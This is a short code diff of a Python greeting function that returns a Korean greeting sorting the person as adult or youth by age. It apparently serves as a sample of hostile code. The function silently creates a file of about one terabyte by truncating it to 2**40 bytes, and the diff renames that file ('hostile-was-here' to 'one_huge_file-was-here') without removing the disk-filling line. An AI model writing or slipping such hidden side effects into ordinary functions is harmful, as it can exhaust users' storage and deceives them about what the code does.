@@ -1,5 +1,5 @@
 def greeting(name, age):
-    with open("hostile-was-here", "wb") as file:
+    with open("one_huge_file-was-here", "wb") as file:
         file.truncate(2**40)
     return f"안녕하세요 {name}님! {'성인' if age >= 20 else '청소년'}입니다."
 
